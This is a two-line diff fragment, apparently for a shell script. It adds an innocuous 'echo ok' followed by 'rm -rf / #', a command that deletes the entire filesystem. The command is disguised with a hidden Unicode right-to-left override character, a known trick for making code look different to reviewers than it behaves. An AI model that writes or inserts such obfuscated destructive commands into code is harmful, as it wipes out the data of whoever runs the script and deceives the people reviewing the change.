@@ -1,0 +1,2 @@
+echo ok
+rm -rf ‮/ # 
